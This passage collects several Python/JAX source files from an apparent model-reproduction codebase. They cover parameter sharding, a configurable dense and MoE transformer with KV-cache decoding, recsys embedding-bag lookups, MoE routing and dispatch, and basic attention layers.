        is_leaf=_is_spec,
    )


def param_shardings(specs, rules: ShardingRules, mesh):
    return jax.tree.map(
        lambda s: rules.sharding_for_shape(mesh, s.shape, *s.names),
        specs,
        is_leaf=_is_spec,
    )


def param_pspecs(specs, rules: ShardingRules, mesh):
    return jax.tree.map(
        lambda s: rules.spec(*s.names, mesh=mesh), specs, is_leaf=_is_spec
    )


def count_params(specs) -> int:
    return sum(
        int(np.prod(s.shape)) for s in jax.tree.leaves(specs, is_leaf=_is_spec)
    )


def param_bytes(specs, dtype=jnp.bfloat16) -> int:
    itemsize = jnp.dtype(dtype).itemsize
    return sum(
        int(np.prod(s.shape)) * (jnp.dtype(s.dtype).itemsize if s.dtype else itemsize)
        for s in jax.tree.leaves(specs, is_leaf=_is_spec)
    )
