"""LM transformer family: dense + MoE, GQA, local/global windows, softcaps.

Covers all five assigned LM architectures through one config:

* gemma2-9b  — alternating local(4096)/global attention, attn+final softcap,
               post-norms, tied embeddings, RMSNorm.
* olmo-1b    — non-parametric LayerNorm, tied embeddings.
* llama3-8b  — GQA kv=8, 128k vocab, untied head, RMSNorm.
* phi3.5-moe — 16 experts top-2.
* arctic-480b— 128 experts top-2 + parallel dense-residual FFN.

Layers are stacked on a leading ``layers`` dim and executed with
``jax.lax.scan`` (+ optional remat), so the compiled HLO is one layer body —
compile time and code size stay O(1) in depth.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import jax
import jax.numpy as jnp

from .layers import (
    blockwise_attention,
    decode_attention,
    dense_attention,
    gated_mlp,
    layer_norm_nonparametric,
    rms_norm,
    apply_rope,
    softcap,
)
from .moe import MoeDims, moe_ffn
from .params import ParamSpec
from .sharding import ShardingRules, logical_constraint

P = ParamSpec


@dataclass(frozen=True)
class LMConfig:
    name: str
    n_layers: int
    d_model: int
    n_heads: int
    n_kv_heads: int
    d_ff: int
    vocab: int
    head_dim: int | None = None  # default d_model // n_heads
    norm: str = "rmsnorm"  # rmsnorm | nonparam_ln
    post_norms: bool = False  # gemma2 post-attn/post-ffn norms
    tied_embeddings: bool = True
    embed_scale: bool = False  # gemma multiplies embeddings by sqrt(d)
    attn_softcap: float | None = None
    final_softcap: float | None = None
    local_window: int | None = None  # sliding window for local layers
    layer_pattern: str = "global"  # "global" | "local_global" (alternating)
    rope_theta: float = 10000.0
    act: str = "silu"
    # MoE
    n_experts: int = 0
    top_k: int = 2
    capacity_factor: float = 1.25
    dense_residual_ff: int = 0  # arctic: parallel dense FFN width (0 = off)
    moe_impl: str = "scatter"
    # execution
    block_kv: int = 1024
    dense_attn_max_seq: int = 8192  # above this, use blockwise attention
    remat: bool = True
    remat_policy: str = "nothing"  # nothing | dots (save matmul outputs)

    @property
    def hd(self) -> int:
        return self.head_dim or self.d_model // self.n_heads

    @property
    def is_moe(self) -> bool:
        return self.n_experts > 0

    @property
    def moe_dims(self) -> MoeDims:
        return MoeDims(self.n_experts, self.top_k, self.capacity_factor)

    def layer_is_local(self) -> jnp.ndarray:
        """[L] bool: which layers use the sliding window."""
        if self.layer_pattern == "local_global" and self.local_window:
            return jnp.arange(self.n_layers) % 2 == 0
        return jnp.zeros(self.n_layers, bool)

    def n_params(self) -> int:
        from .params import count_params

        return count_params(param_specs(self))

    def n_active_params(self) -> int:
        """Parameters touched per token (MoE: only top-k experts count)."""
        if not self.is_moe:
            return self.n_params()
        total = self.n_params()
        expert_p = self.n_layers * self.n_experts * 3 * self.d_model * self.d_ff
        active_expert_p = expert_p * self.top_k // self.n_experts
        return total - expert_p + active_expert_p


# --- parameters -------------------------------------------------------------


def param_specs(cfg: LMConfig):
    L, D, H, KH, F, V = (
        cfg.n_layers,
        cfg.d_model,
        cfg.n_heads,
        cfg.n_kv_heads,
        cfg.d_ff,
        cfg.vocab,
    )
    hd = cfg.hd
    norm_w = cfg.norm == "rmsnorm"

    def norm_spec():
        return P((L, D), ("layers", "embed"), init="zeros") if norm_w else None

    layer: dict[str, Any] = {
        "wq": P((L, D, H, hd), ("layers", "embed", "heads", None)),
        "wk": P((L, D, KH, hd), ("layers", "embed", "kv_heads", None)),
        "wv": P((L, D, KH, hd), ("layers", "embed", "kv_heads", None)),
        "wo": P((L, H, hd, D), ("layers", "heads", None, "embed")),
        "pre_attn_norm": norm_spec(),
        "pre_mlp_norm": norm_spec(),
    }
    if cfg.post_norms and norm_w:
        layer["post_attn_norm"] = norm_spec()
        layer["post_mlp_norm"] = norm_spec()
    if cfg.is_moe:
        E = cfg.n_experts
        layer["moe"] = {
            "router": P((L, D, E), ("layers", "embed", None)),
            "w_gate": P((L, E, D, F), ("layers", "experts", "embed", "expert_mlp")),
            "w_up": P((L, E, D, F), ("layers", "experts", "embed", "expert_mlp")),
            "w_down": P((L, E, F, D), ("layers", "experts", "expert_mlp", "embed")),
        }
        if cfg.dense_residual_ff:
            R = cfg.dense_residual_ff
            layer["dense_residual"] = {
                "w_gate": P((L, D, R), ("layers", "embed", "mlp")),
                "w_up": P((L, D, R), ("layers", "embed", "mlp")),
                "w_down": P((L, R, D), ("layers", "mlp", "embed")),
            }
    else:
        layer["mlp"] = {
            "w_gate": P((L, D, F), ("layers", "embed", "mlp")),
            "w_up": P((L, D, F), ("layers", "embed", "mlp")),
            "w_down": P((L, F, D), ("layers", "mlp", "embed")),
        }
    layer = {k: v for k, v in layer.items() if v is not None}

    specs: dict[str, Any] = {
        # σ = d^-1/2 keeps tied-embedding logits O(1) at init (gemma's input
        # side multiplies by √d, so inputs stay O(1) either way)
        "embed": P((V, D), ("vocab", "embed"), init="embed", scale=D**-0.5),
        "layers": layer,
    }
    if norm_w:
        specs["final_norm"] = P((D,), ("embed",), init="zeros")
    if not cfg.tied_embeddings:
        specs["lm_head"] = P((D, V), ("embed", "vocab"))
    return specs


# --- forward -----------------------------------------------------------------


def _norm(x, w, cfg: LMConfig):
    if cfg.norm == "nonparam_ln":
        return layer_norm_nonparametric(x)
    return rms_norm(x, w)


def _attention(q, k, v, cfg: LMConfig, window, q_offset=0):
    if q.shape[1] <= cfg.dense_attn_max_seq:
        return dense_attention(
            q, k, v, window=window, attn_softcap=cfg.attn_softcap, q_offset=q_offset
        )
    return blockwise_attention(
        q,
        k,
        v,
        block_kv=cfg.block_kv,
        window=window,
        attn_softcap=cfg.attn_softcap,
        q_offset=q_offset,
    )


def _layer_window(cfg: LMConfig, is_local):
    """Effective attention window for a (possibly traced) layer flag.

    A traced ``jnp.where`` keeps local/global layers in ONE attention lowering
    (a ``lax.cond`` would double the attention FLOPs in cost_analysis).
    Global layers get a window larger than any sequence → mask is all-causal.
    """
    if cfg.local_window and cfg.layer_pattern == "local_global":
        return jnp.where(is_local, cfg.local_window, 1 << 30)
    return cfg.local_window


def _layer_body(cfg: LMConfig, rules: ShardingRules, x, layer_params, is_local, positions):
    """One transformer block over x: [B, S, D].  Returns (x, aux_loss)."""
    b, s, d = x.shape
    dt = x.dtype
    lp = layer_params

    h = _norm(x, lp.get("pre_attn_norm"), cfg)
    q = jnp.einsum("bsd,dhk->bshk", h, lp["wq"])
    k = jnp.einsum("bsd,dhk->bshk", h, lp["wk"])
    v = jnp.einsum("bsd,dhk->bshk", h, lp["wv"])
    q = logical_constraint(q, rules, "batch", "seq", "act_heads", None)
    k = logical_constraint(k, rules, "batch", "seq", "kv_heads", None)
    q = apply_rope(q, positions, cfg.rope_theta)
    k = apply_rope(k, positions, cfg.rope_theta)
    attn_out = _attention(q, k, v, cfg, _layer_window(cfg, is_local))
    attn_out = jnp.einsum("bshk,hkd->bsd", attn_out, lp["wo"])
    if cfg.post_norms:
        attn_out = _norm(attn_out, lp.get("post_attn_norm"), cfg)
    x = x + attn_out
    x = logical_constraint(x, rules, "batch", "seq", None)

    h = _norm(x, lp.get("pre_mlp_norm"), cfg)
    aux = jnp.zeros((), jnp.float32)
    if cfg.is_moe:
        flat = h.reshape(b * s, d)
        y, aux = moe_ffn(
            flat,
            lp["moe"],
            cfg.moe_dims,
            impl=cfg.moe_impl,
            dense_residual=lp.get("dense_residual"),
            rules=rules,
        )
        ff_out = y.reshape(b, s, d)
    else:
        m = lp["mlp"]
        ff_out = gated_mlp(h, m["w_gate"], m["w_up"], m["w_down"], act=cfg.act)
    if cfg.post_norms:
        ff_out = _norm(ff_out, lp.get("post_mlp_norm"), cfg)
    x = (x + ff_out).astype(dt)
    x = logical_constraint(x, rules, "batch", "seq", None)
    return x, aux


def forward(
    params,
    tokens,
    cfg: LMConfig,
    rules: ShardingRules | None = None,
    *,
    positions=None,
):
    """tokens [B, S] → logits [B, S, V] (fp32), aux_loss scalar."""
    rules = rules or ShardingRules()
    b, s = tokens.shape
    x = params["embed"][tokens].astype(jnp.bfloat16)
    if cfg.embed_scale:
        x = x * jnp.asarray(cfg.d_model**0.5, x.dtype)
    x = logical_constraint(x, rules, "batch", "seq", None)
    if positions is None:
        positions = jnp.arange(s)[None, :]

    is_local = cfg.layer_is_local()

    def body(carry, xs):
        x, aux = carry
        layer_params, local_flag = xs
        x, a = _layer_body(cfg, rules, x, layer_params, local_flag, positions)
        return (x, aux + a), None

    if cfg.remat:
        policy = (
            jax.checkpoint_policies.dots_with_no_batch_dims_saveable
            if cfg.remat_policy == "dots"
            else None
        )
        scan_body = jax.checkpoint(body, policy=policy)
    else:
        scan_body = body
    (x, aux), _ = jax.lax.scan(scan_body, (x, jnp.zeros((), jnp.float32)), (params["layers"], is_local))

    x = _norm(x, params.get("final_norm"), cfg)
    logits = _unembed(x, params, cfg)
    logits = logical_constraint(logits, rules, "batch", "seq", "vocab")
    return logits, aux / cfg.n_layers


def _unembed(x, params, cfg: LMConfig):
    if cfg.tied_embeddings:
        logits = jnp.einsum("bsd,vd->bsv", x, params["embed"]).astype(jnp.float32)
    else:
        logits = jnp.einsum("bsd,dv->bsv", x, params["lm_head"]).astype(jnp.float32)
    return softcap(logits, cfg.final_softcap)


# --- KV-cache serving --------------------------------------------------------


def init_cache(cfg: LMConfig, batch: int, max_seq: int, dtype=jnp.bfloat16):
    shape = (cfg.n_layers, batch, max_seq, cfg.n_kv_heads, cfg.hd)
    return {
        "k": jnp.zeros(shape, dtype),
        "v": jnp.zeros(shape, dtype),
        "len": jnp.zeros((), jnp.int32),
    }


def abstract_cache(cfg: LMConfig, batch: int, max_seq: int, dtype=jnp.bfloat16):
    shape = (cfg.n_layers, batch, max_seq, cfg.n_kv_heads, cfg.hd)
    return {
        "k": jax.ShapeDtypeStruct(shape, dtype),
        "v": jax.ShapeDtypeStruct(shape, dtype),
        "len": jax.ShapeDtypeStruct((), jnp.int32),
    }


def cache_logical_names():
    return {
        "k": ("layers", "batch", "kv_seq", "kv_heads", None),
        "v": ("layers", "batch", "kv_seq", "kv_heads", None),
        "len": (),
    }


def prefill(params, tokens, cfg: LMConfig, rules: ShardingRules | None = None, *, max_seq: int | None = None):
    """Run the full prompt, return (last-position logits, filled cache)."""
    rules = rules or ShardingRules()
    b, s = tokens.shape
    max_seq = max_seq or s
    x = params["embed"][tokens].astype(jnp.bfloat16)
    if cfg.embed_scale:
        x = x * jnp.asarray(cfg.d_model**0.5, x.dtype)
    x = logical_constraint(x, rules, "batch", "seq", None)
    positions = jnp.arange(s)[None, :]
    is_local = cfg.layer_is_local()

    def body(x, xs):
        layer_params, local_flag = xs
        lp = layer_params
        dt = x.dtype
        h = _norm(x, lp.get("pre_attn_norm"), cfg)
        q = jnp.einsum("bsd,dhk->bshk", h, lp["wq"])
        k = jnp.einsum("bsd,dhk->bshk", h, lp["wk"])
        v = jnp.einsum("bsd,dhk->bshk", h, lp["wv"])
        q = apply_rope(q, positions, cfg.rope_theta)
        k = apply_rope(k, positions, cfg.rope_theta)
        attn_out = _attention(q, k, v, cfg, _layer_window(cfg, local_flag))
        attn_out = jnp.einsum("bshk,hkd->bsd", attn_out, lp["wo"])
        if cfg.post_norms:
            attn_out = _norm(attn_out, lp.get("post_attn_norm"), cfg)
        x = x + attn_out
        h = _norm(x, lp.get("pre_mlp_norm"), cfg)
        if cfg.is_moe:
            b_, s_, d_ = h.shape
            y, _aux = moe_ffn(
                h.reshape(b_ * s_, d_),
                lp["moe"],
                cfg.moe_dims,
                impl=cfg.moe_impl,
                dense_residual=lp.get("dense_residual"),
                rules=rules,
            )
            ff_out = y.reshape(b_, s_, d_)
        else:
            m = lp["mlp"]
            ff_out = gated_mlp(h, m["w_gate"], m["w_up"], m["w_down"], act=cfg.act)
        if cfg.post_norms:
            ff_out = _norm(ff_out, lp.get("post_mlp_norm"), cfg)
        x = (x + ff_out).astype(dt)
        x = logical_constraint(x, rules, "batch", "seq", None)
        if max_seq > s:
            pad = [(0, 0), (0, max_seq - s), (0, 0), (0, 0)]
            k, v = jnp.pad(k, pad), jnp.pad(v, pad)
        k = logical_constraint(k, rules, "batch", "kv_seq", "kv_heads", None)
        v = logical_constraint(v, rules, "batch", "kv_seq", "kv_heads", None)
        return x, (k, v)

    body = jax.checkpoint(body, static_argnums=()) if cfg.remat else body
    x, (ks, vs) = jax.lax.scan(body, x, (params["layers"], is_local))
    x = _norm(x[:, -1:], params.get("final_norm"), cfg)
    logits = _unembed(x, params, cfg)[:, 0]
    cache = {"k": ks, "v": vs, "len": jnp.asarray(s, jnp.int32)}
    return logits, cache


def decode_step(params, cache, tokens, cfg: LMConfig, rules: ShardingRules | None = None):
    """One decode step: tokens [B] + cache → (logits [B, V], new cache)."""
    rules = rules or ShardingRules()
    b = tokens.shape[0]
    pos = cache["len"]  # scalar: next position to write
    x = params["embed"][tokens[:, None]].astype(jnp.bfloat16)  # [B, 1, D]
    if cfg.embed_scale:
        x = x * jnp.asarray(cfg.d_model**0.5, x.dtype)
    positions = jnp.full((b, 1), pos, jnp.int32)
    is_local = cfg.layer_is_local()

    def body(x, xs):
        layer_params, local_flag, k_cache, v_cache = xs
        lp = layer_params
        dt = x.dtype
        h = _norm(x, lp.get("pre_attn_norm"), cfg)
        q = jnp.einsum("bsd,dhk->bshk", h, lp["wq"])
        k_new = jnp.einsum("bsd,dhk->bshk", h, lp["wk"])
        v_new = jnp.einsum("bsd,dhk->bshk", h, lp["wv"])
        q = apply_rope(q, positions, cfg.rope_theta)
        k_new = apply_rope(k_new, positions, cfg.rope_theta)
        k_cache = jax.lax.dynamic_update_slice(k_cache, k_new.astype(k_cache.dtype), (0, pos, 0, 0))
        v_cache = jax.lax.dynamic_update_slice(v_cache, v_new.astype(v_cache.dtype), (0, pos, 0, 0))
        attn_out = decode_attention(
            q,
            k_cache,
            v_cache,
            pos + 1,
            window=_layer_window(cfg, local_flag),
            attn_softcap=cfg.attn_softcap,
        )
        attn_out = jnp.einsum("bshk,hkd->bsd", attn_out, lp["wo"])
        if cfg.post_norms:
            attn_out = _norm(attn_out, lp.get("post_attn_norm"), cfg)
        x = x + attn_out
        h = _norm(x, lp.get("pre_mlp_norm"), cfg)
        if cfg.is_moe:
            y, _aux = moe_ffn(
                h.reshape(b, -1),
                lp["moe"],
                cfg.moe_dims,
                impl=cfg.moe_impl,
                dense_residual=lp.get("dense_residual"),
                rules=rules,
            )
            ff_out = y.reshape(b, 1, -1)
        else:
            m = lp["mlp"]
            ff_out = gated_mlp(h, m["w_gate"], m["w_up"], m["w_down"], act=cfg.act)
        if cfg.post_norms:
            ff_out = _norm(ff_out, lp.get("post_mlp_norm"), cfg)
        x = (x + ff_out).astype(dt)
        return x, (k_cache, v_cache)

    x, (ks, vs) = jax.lax.scan(body, x, (params["layers"], is_local, cache["k"], cache["v"]))
    x = _norm(x, params.get("final_norm"), cfg)
    logits = _unembed(x, params, cfg)[:, 0]
    new_cache = {"k": ks, "v": vs, "len": pos + 1}
    return logits, new_cache


# --- loss ----------------------------------------------------------------------


def lm_loss(params, batch, cfg: LMConfig, rules: ShardingRules | None = None):
    """Next-token cross-entropy (tokens/labels int32 [B, S])."""
    logits, aux = forward(params, batch["tokens"], cfg, rules)
    labels = batch["labels"]
    logz = jax.nn.logsumexp(logits, axis=-1)
    gold = jnp.take_along_axis(logits, labels[..., None], axis=-1)[..., 0]
    mask = (labels >= 0).astype(jnp.float32)
    nll = ((logz - gold) * mask).sum() / jnp.maximum(mask.sum(), 1.0)
    return nll + 0.01 * aux, {"nll": nll, "aux": aux}
