"""Sparse embedding substrate for recsys: EmbeddingBag and sharded tables.

JAX has no native EmbeddingBag or CSR sparse — per the assignment this IS
part of the system: lookups are ``jnp.take`` gathers and multi-valued bags
reduce with ``jax.ops.segment_sum`` (sum/mean) or ``segment_max``.

Tables are row-sharded over the full mesh (logical name ``table_rows``);
GSPMD turns the gathers into a distributed lookup (all-to-all-ish exchange of
indices/rows).  That sharding choice is the recsys hillclimb lever.
"""

from __future__ import annotations

import jax
import jax.numpy as jnp

from .params import ParamSpec
from .sharding import ShardingRules, logical_constraint


ROW_PAD = 512  # tables pad to a multiple of the widest mesh row-shard product


def pad_rows(rows: int, pad: int = ROW_PAD) -> int:
    return ((rows + pad - 1) // pad) * pad


def embedding_table_spec(rows: int, dim: int, scale: float | None = None) -> ParamSpec:
    """Row-sharded table spec; rows padded so every mesh shape divides evenly
    (the padded tail is never indexed — ids stay < the real row count)."""
    return ParamSpec(
        (pad_rows(rows), dim), ("table_rows", "table_dim"), init="embed", scale=scale or dim**-0.5
    )


def embedding_lookup(table, indices):
    """Plain single-valued lookup: indices [...,] → [..., dim]."""
    return jnp.take(table, indices, axis=0)


def embedding_bag(table, indices, offsets=None, *, mode: str = "sum", weights=None):
    """EmbeddingBag(jnp.take + segment_sum): ragged bags → one vector per bag.

    indices: [N] flat row ids;  offsets: [B] bag start positions (like torch)
    OR ``segment_ids`` directly when ``offsets is None`` and indices is a
    (values, segment_ids) tuple.
    """
    if offsets is not None:
        n = indices.shape[0]
        b = offsets.shape[0]
        # bag id per index position: count of offsets <= position - 1
        seg = jnp.searchsorted(offsets, jnp.arange(n), side="right") - 1
    else:
        indices, seg = indices
        b = int(seg.max()) + 1 if seg.size else 0
    rows = jnp.take(table, indices, axis=0)
    if weights is not None:
        rows = rows * weights[:, None]
    out = jax.ops.segment_sum(rows, seg, num_segments=b)
    if mode == "mean":
        cnt = jax.ops.segment_sum(jnp.ones_like(seg, dtype=rows.dtype), seg, num_segments=b)
        out = out / jnp.maximum(cnt[:, None], 1)
    elif mode == "max":
        out = jax.ops.segment_max(rows, seg, num_segments=b)
    return out


def embedding_bag_fixed(table, indices, *, mode: str = "sum", valid=None):
    """Fixed-width bags: indices [B, K] (padded), optional validity mask.

    The padded form is the device-friendly layout (no ragged scatter): one
    gather + a masked reduction — this is what the recsys models use on the
    hot path.
    """
    rows = jnp.take(table, indices, axis=0)  # [B, K, D]
    if valid is not None:
        rows = rows * valid[..., None].astype(rows.dtype)
    if mode == "sum":
        return rows.sum(axis=1)
    if mode == "mean":
        denom = (
            valid.sum(axis=1, keepdims=True).astype(rows.dtype)
            if valid is not None
            else jnp.asarray(indices.shape[1], rows.dtype)
        )
        return rows.sum(axis=1) / jnp.maximum(denom, 1)
    if mode == "max":
        if valid is not None:
            rows = jnp.where(valid[..., None], rows, -jnp.inf)
        return rows.max(axis=1)
    raise ValueError(mode)


def field_lookup(tables_stacked, field_offsets, indices, rules: ShardingRules | None = None):
    """Multi-field categorical lookup against ONE concatenated table.

    recsys models store all F field vocabularies in a single row-sharded
    table (rows = sum of field vocab sizes); ``field_offsets`` [F] maps a
    per-field index to its global row.  indices: [B, F] → [B, F, D].
    """
    global_idx = indices + field_offsets[None, :]
    out = jnp.take(tables_stacked, global_idx, axis=0)
    if rules is not None:
        out = logical_constraint(out, rules, "batch", None, None)
    return out
