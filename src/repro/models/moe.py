"""Mixture-of-Experts layer: top-k router + capacity-bounded dispatch.

Two dispatch lowerings, selected per config (`dispatch_impl`):

* ``scatter`` (default) — position-within-expert via cumsum over a [T, E]
  one-hot, tokens scattered into an [E, C, M] buffer, batched expert matmuls,
  gathered back.  HLO FLOPs ≈ useful FLOPs (k·T expert FFNs) — the honest
  roofline path.  Under GSPMD the scatter/gather lower to all-to-all-ish
  exchanges between the data-sharded token axis and the expert-sharded
  buffer axis.
* ``einsum`` — GShard-style dense one-hot dispatch einsum.  Robust sharding,
  but the dispatch einsums add O(T·E·C·M) HLO FLOPs; kept as a fallback and
  as the baseline the §Perf log measures the scatter path against.

Capacity C = ceil(k · T / E · capacity_factor); overflow tokens are dropped
(their combine weight is zero) — standard Switch/GShard semantics.
"""

from __future__ import annotations

import math
from dataclasses import dataclass

import jax
import jax.numpy as jnp

from .layers import gated_mlp


@dataclass(frozen=True)
class MoeDims:
    n_experts: int
    top_k: int
    capacity_factor: float = 1.25

    def capacity(self, n_tokens: int) -> int:
        c = math.ceil(self.top_k * n_tokens / self.n_experts * self.capacity_factor)
        return max(8, min(n_tokens, int(c)))


def router_topk(x, w_router, dims: MoeDims):
    """Returns (expert_idx [T, k], combine_w [T, k], aux_loss scalar)."""
    logits = jnp.einsum("td,de->te", x, w_router).astype(jnp.float32)
    probs = jax.nn.softmax(logits, axis=-1)
    combine_w, expert_idx = jax.lax.top_k(probs, dims.top_k)
    combine_w = combine_w / jnp.maximum(combine_w.sum(-1, keepdims=True), 1e-9)
    # Switch-style load-balancing auxiliary loss
    density = jnp.mean(
        jax.nn.one_hot(expert_idx[:, 0], dims.n_experts, dtype=jnp.float32), axis=0
    )
    density_proxy = jnp.mean(probs, axis=0)
    aux = jnp.sum(density * density_proxy) * (dims.n_experts**2) / dims.top_k
    return expert_idx, combine_w.astype(x.dtype), aux


def _expert_ffn(buf, w_gate, w_up, w_down):
    """buf: [E, C, M]; weights: [E, M, F] / [E, F, M] → [E, C, M]."""
    g = jnp.einsum("ecm,emf->ecf", buf, w_gate)
    u = jnp.einsum("ecm,emf->ecf", buf, w_up)
    return jnp.einsum("ecf,efm->ecm", jax.nn.silu(g) * u, w_down)


def moe_ffn_scatter(x, params, dims: MoeDims, rules=None):
    """x: [T, M] → [T, M]; params: router + stacked expert weights.

    Sharding constraints pin the expert buffer to the EP axes ("experts"
    rule) and token-indexed intermediates to the data axis — without them
    GSPMD replicates the [E, C, M] buffer on every device and all-gathers
    it per layer (measured on arctic train_4k: 203 GiB/device of
    all-gather and a full-size scatter per device; see EXPERIMENTS.md
    §Perf hillclimb 1).
    """
    from .sharding import logical_constraint

    t, m = x.shape
    cap = dims.capacity(t)
    expert_idx, combine_w, aux = router_topk(x, params["router"], dims)

    def pin(v, *names):
        return logical_constraint(v, rules, *names) if rules is not None else v

    # flatten (token, slot) pairs; position within expert via one-hot cumsum
    flat_expert = expert_idx.reshape(-1)  # [T*k]
    onehot = jax.nn.one_hot(flat_expert, dims.n_experts, dtype=jnp.int32)  # [T*k, E]
    onehot = pin(onehot, "batch", None)
    pos_in_expert = (jnp.cumsum(onehot, axis=0) - 1).max(
        axis=-1, where=onehot > 0, initial=0
    )  # [T*k]
    keep = pos_in_expert < cap
    # scatter tokens into the expert buffer
    token_of_slot = jnp.repeat(jnp.arange(t), dims.top_k)
    scatter_idx = jnp.stack(
        [flat_expert, jnp.minimum(pos_in_expert, cap - 1)], axis=-1
    )  # [T*k, 2]
    buf = pin(jnp.zeros((dims.n_experts, cap, m), x.dtype), "experts", None, None)
    src = jnp.where(keep[:, None], x[token_of_slot], 0)
    buf = buf.at[scatter_idx[:, 0], scatter_idx[:, 1]].set(src, mode="drop")
    buf = pin(buf, "experts", None, None)

    out_buf = _expert_ffn(buf, params["w_gate"], params["w_up"], params["w_down"])
    out_buf = pin(out_buf, "experts", None, None)

    # gather back + weighted combine
    gathered = out_buf[flat_expert, jnp.minimum(pos_in_expert, cap - 1)]  # [T*k, M]
    gathered = pin(jnp.where(keep[:, None], gathered, 0), "batch", None)
    w = combine_w.reshape(-1)[:, None]
    y = jax.ops.segment_sum(gathered * w.astype(gathered.dtype), token_of_slot, t)
    return pin(y.astype(x.dtype), "batch", None), aux


def moe_ffn_einsum(x, params, dims: MoeDims):
    """GShard dense dispatch (one-hot einsum) — the fallback lowering."""
    t, m = x.shape
    cap = dims.capacity(t)
    expert_idx, combine_w, aux = router_topk(x, params["router"], dims)

    flat_expert = expert_idx.reshape(-1)
    onehot = jax.nn.one_hot(flat_expert, dims.n_experts, dtype=jnp.int32)
    pos_in_expert = (jnp.cumsum(onehot, axis=0) - 1).max(
        axis=-1, where=onehot > 0, initial=0
    )
    keep = (pos_in_expert < cap).astype(x.dtype) * combine_w.reshape(-1)
    # dispatch/combine tensor [T, k, E, C]
    disp = (
        jax.nn.one_hot(flat_expert, dims.n_experts, dtype=x.dtype)[:, :, None]
        * jax.nn.one_hot(jnp.minimum(pos_in_expert, cap - 1), cap, dtype=x.dtype)[:, None, :]
    ).reshape(t, dims.top_k, dims.n_experts, cap)
    combine = disp * keep.reshape(t, dims.top_k)[:, :, None, None]
    disp_mask = (combine != 0).astype(x.dtype)
    buf = jnp.einsum("tkec,tm->ecm", disp_mask, x)
    out_buf = _expert_ffn(buf, params["w_gate"], params["w_up"], params["w_down"])
    y = jnp.einsum("tkec,ecm->tm", combine, out_buf)
    return y.astype(x.dtype), aux


def moe_ffn(x, params, dims: MoeDims, impl: str = "scatter", dense_residual=None, rules=None):
    """Top-level MoE FFN over flat tokens [T, M] (+ arctic dense residual)."""
    if impl == "a2a":
        from .moe_a2a import a2a_applicable, moe_ffn_a2a

        if a2a_applicable(x, dims, rules):
            y, aux = moe_ffn_a2a(x, params, dims, rules)
        else:  # tiny/undivisible token counts (e.g. decode B=1) fall back
            y, aux = moe_ffn_scatter(x, params, dims, rules=rules)
    elif impl == "scatter":
        y, aux = moe_ffn_scatter(x, params, dims, rules=rules)
    else:
        y, aux = moe_ffn_einsum(x, params, dims)
    if dense_residual is not None:
        # Snowflake-Arctic: a small dense FFN in parallel with the MoE branch
        y = y + gated_mlp(
            x, dense_residual["w_gate"], dense_residual["w_up"], dense_residual["w_down"]
        )
    return y, aux
