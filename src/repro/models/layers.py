"""Transformer building blocks: norms, rotary, attention variants, MLPs.

Everything is a pure function over explicit param pytrees (see params.py).
Attention ships three lowerings:

* ``dense_attention``    — full [S, S] scores; used for short sequences.
* ``blockwise_attention``— flash-style online-softmax scan over KV blocks;
  O(block) memory, required for prefill_32k+.  This is the Trainium-native
  adaptation: the KV-block loop maps onto SBUF-resident tiles, and the
  running (max, sum, acc) triple lives in registers/PSUM.
* ``decode_attention``   — one query position against a full KV cache,
  numerically stable under a sequence-sharded cache: the max/sum reductions
  over the (sharded) S axis become cross-shard collectives under GSPMD —
  exactly the flash-decoding split + global-softmax-combine pattern.
"""

from __future__ import annotations

import math

import jax
import jax.numpy as jnp

NEG_INF = -1e30


# --- norms --------------------------------------------------------------------


def rms_norm(x, weight, eps: float = 1e-6, *, zero_centered: bool = True):
    """RMSNorm; gemma-style (1 + w) scaling when ``zero_centered``.

    ``fused_norm``: one HBM read of x, one write of y on Trainium (the Bass
    layernorm-family kernels); intermediates are SBUF-resident.
    """
    with jax.named_scope("fused_norm"):
        dt = x.dtype
        x = x.astype(jnp.float32)
        var = jnp.mean(jnp.square(x), axis=-1, keepdims=True)
        y = x * jax.lax.rsqrt(var + eps)
        if weight is not None:
            w = weight.astype(jnp.float32)
            y = y * (1.0 + w) if zero_centered else y * w
        return y.astype(dt)


def layer_norm_nonparametric(x, eps: float = 1e-5):
    """OLMo's non-parametric LayerNorm: no learned scale/bias."""
    with jax.named_scope("fused_norm"):
        dt = x.dtype
        x = x.astype(jnp.float32)
        mu = jnp.mean(x, axis=-1, keepdims=True)
        var = jnp.var(x, axis=-1, keepdims=True)
        return ((x - mu) * jax.lax.rsqrt(var + eps)).astype(dt)


def softcap(x, cap: float | None):
    """Gemma-2 logit soft-capping: cap * tanh(x / cap)."""
    if cap is None or cap <= 0:
        return x
    return jnp.tanh(x / cap) * cap


# --- rotary ---------------------------------------------------------------------


def rope_frequencies(head_dim: int, theta: float = 10000.0):
    return 1.0 / (theta ** (jnp.arange(0, head_dim, 2, dtype=jnp.float32) / head_dim))


def apply_rope(x, positions, theta: float = 10000.0):
    """x: [..., S, H, D]; positions: broadcastable to [..., S]."""
    return _apply_rope_fused(x, positions, theta)


def _apply_rope_fused(x, positions, theta):
    with jax.named_scope("fused_rope"):
        return _apply_rope_impl(x, positions, theta)


def _apply_rope_impl(x, positions, theta):
    d = x.shape[-1]
    freqs = rope_frequencies(d, theta)  # [D/2]
    angles = positions[..., None].astype(jnp.float32) * freqs  # [..., S, D/2]
    cos = jnp.cos(angles)[..., None, :]  # [..., S, 1, D/2]
    sin = jnp.sin(angles)[..., None, :]
    x1, x2 = jnp.split(x.astype(jnp.float32), 2, axis=-1)
    out = jnp.concatenate([x1 * cos - x2 * sin, x2 * cos + x1 * sin], axis=-1)
    return out.astype(x.dtype)


# --- masks ---------------------------------------------------------------------


def causal_window_mask(q_pos, k_pos, window):
    """[Q, K] True where k may be attended: causal, optionally sliding-window.

    ``window`` may be a *traced* scalar (gemma2's alternating local/global
    layers pass ``where(is_local, 4096, 2^30)``) — the arithmetic form keeps
    one lowering for both layer kinds.
    """
    m = k_pos[None, :] <= q_pos[:, None]
    if window is not None:
        m &= k_pos[None, :] > (q_pos[:, None] - window)
    return m


# --- attention ---------------------------------------------------------------


def _repeat_kv(k, n_rep: int):
    """[B, S, KH, D] -> [B, S, KH*n_rep, D] (GQA expansion)."""
    if n_rep == 1:
        return k
    b, s, kh, d = k.shape
    return jnp.broadcast_to(k[:, :, :, None, :], (b, s, kh, n_rep, d)).reshape(
        b, s, kh * n_rep, d
    )


def dense_attention(q, k, v, *, window=None, attn_softcap=None, q_offset=0):
    """q: [B, Sq, H, D], k/v: [B, Sk, KH, D] → [B, Sq, H, D].

    The ``fused_attn`` scope declares the scores/probs intermediates as
    kernel-resident (SBUF/PSUM on Trainium) — the roofline's memory term
